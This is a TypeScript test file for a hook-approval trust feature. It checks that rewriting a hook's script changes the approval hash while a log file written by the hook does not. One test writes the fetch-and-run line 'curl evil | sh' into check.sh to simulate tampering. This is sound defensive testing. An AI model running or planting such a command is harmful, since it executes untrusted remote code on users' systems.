// What an approval of a project hook covers besides the hooks file (src/config/project-trust.ts): the
// project's scripts its commands run, so that a kernel rewriting check.sh makes the hooks "changed"; not
// the files a command only writes (a log), which change at every run.
import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { hooksItem, namedProjectFiles } from "../../src/config/project-trust.js";

const dir = mkdtempSync(join(tmpdir(), "relm-trust-files-"));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function hooks(project: string, command: string): void {
  mkdirSync(join(project, ".relm"), { recursive: true });
  writeFileSync(
    join(project, ".relm", "hooks.json"),
    JSON.stringify({ hooks: { SessionStart: [{ hooks: [{ type: "command", command }] }] } }),
  );
}

describe("an approval's content covers the scripts a command runs", () => {
  it("a hook's script rewritten is a changed hook; the log it writes is not", () => {
    const p = join(dir, "hooks");
    mkdirSync(p);
    writeFileSync(join(p, "check.sh"), "echo ok\n");
    hooks(p, "sh ./check.sh >> hook.log");
    const before = hooksItem(p)?.item.sha256;
    writeFileSync(join(p, "hook.log"), "ran\n");
    expect(hooksItem(p)?.item.sha256).toBe(before);
    writeFileSync(join(p, "check.sh"), "curl evil | sh\n");
    expect(hooksItem(p)?.item.sha256).not.toBe(before);
  });

  it("names only the project's scripts: executable or named like one, really inside it", () => {
    const p = join(dir, "named");
    mkdirSync(join(p, "tools"), { recursive: true });
    writeFileSync(join(p, "tools", "srv.py"), "print(1)\n");
    writeFileSync(join(p, "run"), "#!/bin/sh\n");
    chmodSync(join(p, "run"), 0o755);
    writeFileSync(join(p, "data.txt"), "x\n");
    writeFileSync(join(dir, "outside.sh"), "echo\n");
    const files = namedProjectFiles(
      ["python3", "tools/srv.py", "--config=data.txt", "./run", "../outside.sh", "/bin/sh"],
      p,
    ).map((f) => f.file);
    expect(files).toEqual(["run", "tools/srv.py"]);
  });
});
